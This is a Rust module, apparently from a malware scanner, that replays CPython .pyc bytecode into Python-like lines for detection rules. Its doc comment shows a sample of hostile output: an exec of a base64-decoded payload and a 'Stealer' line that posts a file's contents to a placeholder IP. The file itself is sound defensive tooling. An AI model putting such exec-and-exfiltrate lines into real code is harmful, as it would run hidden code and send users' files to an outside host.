//! CPython bytecode, read back into Python-like statements that the Python rules read.
//!
//! Each code object (the module, every class body, function, lambda and comprehension)
//! is replayed on a symbolic stack, as the .NET and JVM readers do, and every statement
//! it ends in is written as the line of source it was compiled from would read:
//!
//! ```text
//! # code <module>
//! import base64
//! exec(base64.b64decode("aW1wb3J0IG9z..."))
//! # code Stealer.run
//! requests.post("http://203.0.113.9/c", data=open(p, "rb").read())
//! ```
//!
//! Names are what the code names (globals, attributes, locals); there is no data flow
//! beyond the stack, so `x = f(); g(x)` reads as two lines, as in source. Control flow
//! is read straight through: a condition is written as `if cond:`, and after a jump or
//! a return the stack is reset, each call it held still written. Any call the code makes
//! is in the view at least once.

mod expr;
mod opcodes;
mod pyc;
mod replay;

use crate::{Format, View};

pub(crate) use pyc::is_pyc;

/// What an instruction does, as far as the replay distinguishes; the opcode numbers of
/// each version map to these in `opcodes`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Op {
    Other,
    Nop,
    Append,
    BeforeWith,
    Binary(&'static str),
    BinaryOperator,
    BinarySlice,
    BinarySubscr,
    Build(Seq),
    BuildConstKeyMap,
    BuildMap,
    /// 3.6 to 3.8's merges of unpacked mappings (`{**a, **b}`, `f(**a)`).
    BuildMapUnpack,
    /// 3.6 to 3.8's merges of unpacked iterables (`[*a, *b]`, `f(*a)`).
    BuildUnpack(Seq),
    BuildSlice,
    BuildString,
    Call,
    CallFunction,
    CallFunctionEx,
    CallFunctionKw,
    /// 3.12's intrinsics, among them `from m import *`.
    CallIntrinsic1,
    CallKw,
    Compare,
    Contains,
    Copy,
    DeleteAttr,
    DeleteSubscr,
    DupTop,
    DupTopTwo,
    Extend,
    ExtendedArg,
    ForIter,
    FormatSimple,
    FormatValue,
    FormatWithSpec,
    ImportFrom,
    ImportName,
    ImportStar,
    Is,
    /// An unconditional jump backwards (a loop's end).
    Jump,
    JumpAbsolute,
    JumpForward,
    JumpIfOrPop,
    KwNames,
    LoadAssertionError,
    LoadAttr,
    LoadBuildClass,
    LoadConst,
    LoadDeref,
    LoadFast,
    LoadFastLoadFast,
    LoadFromDictOrDeref,
    LoadFromDictOrGlobals,
    LoadGlobal,
    LoadLocals,
    LoadMethod,
    LoadName,
    LoadSuperAttr,
    MakeFunction,
    MapAdd,
    PopJumpBackwardIf,
    PopJumpIf,
    PopJumpIfFalse,
    PopTop,
    PushNull,
    Raise,
    Reraise,
    ReturnConst,
    ReturnValue,
    RotFour,
    RotThree,
    RotTwo,
    SetFunctionAttribute,
    StoreAttr,
    StoreDeref,
    StoreFast,
    StoreFastLoadFast,
    StoreFastStoreFast,
    StoreName,
    StoreSlice,
    StoreSubscr,
    Swap,
    Unary(&'static str),
    UnpackEx,
    UnpackSequence,
    YieldValue,
}

/// The kind of sequence a `BUILD_*` instruction makes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Seq {
    Tuple,
    List,
    Set,
}

/// The meaning of every opcode of `version`, and how many inline cache words follow it
/// (from 3.11: CPython skips them, and so must the replay, whatever they hold).
fn opcode_table(version: pyc::Version) -> ([Op; 256], [u8; 256]) {
    let (listed, caches) = match version {
        306 => (opcodes::V36, &[][..]),
        307 => (opcodes::V37, &[][..]),
        308 => (opcodes::V38, &[][..]),
        309 => (opcodes::V39, &[][..]),
        310 => (opcodes::V310, &[][..]),
        311 => (opcodes::V311, opcodes::CACHES_311),
        312 => (opcodes::V312, opcodes::CACHES_312),
        _ => (opcodes::V313, opcodes::CACHES_313),
    };
    let mut table = [Op::Other; 256];
    for &(number, op) in listed {
        table[usize::from(number)] = op;
    }
    let mut cache_words = [0u8; 256];
    for &(number, words) in caches {
        cache_words[usize::from(number)] = words;
    }
    (table, cache_words)
}

/// The stack the reader runs on: marshal nests objects up to 2,000 levels, as CPython
/// allows, and each level is a few frames of the recursive reader.
const READER_STACK: usize = 64 << 20;

/// The view of a `.pyc` file, read on a thread of its own with a stack deep enough for
/// the nesting CPython accepts (a thread's usual 2 MB is not).
pub(crate) fn read(data: &[u8]) -> Result<View, String> {
    std::thread::scope(|scope| {
        std::thread::Builder::new()
            .name("pyc-reader".into())
            .stack_size(READER_STACK)
            .spawn_scoped(scope, || read_here(data))
            .map_err(|e| format!("no thread to read it on: {e}"))?
            .join()
            .map_err(|_| "the reader failed".to_string())?
    })
}

fn read_here(data: &[u8]) -> Result<View, String> {
    let (version, module) = pyc::read(data)?;
    let mut view = View::new(Format::Pyc);
    view.line(&format!(
        "# Python {}.{} bytecode",
        version / 100,
        version % 100
    ));
    let (ops, caches) = opcode_table(version);
    replay::write(&module, version, (&ops, &caches), data.len(), &mut view);
    Ok(view)
}
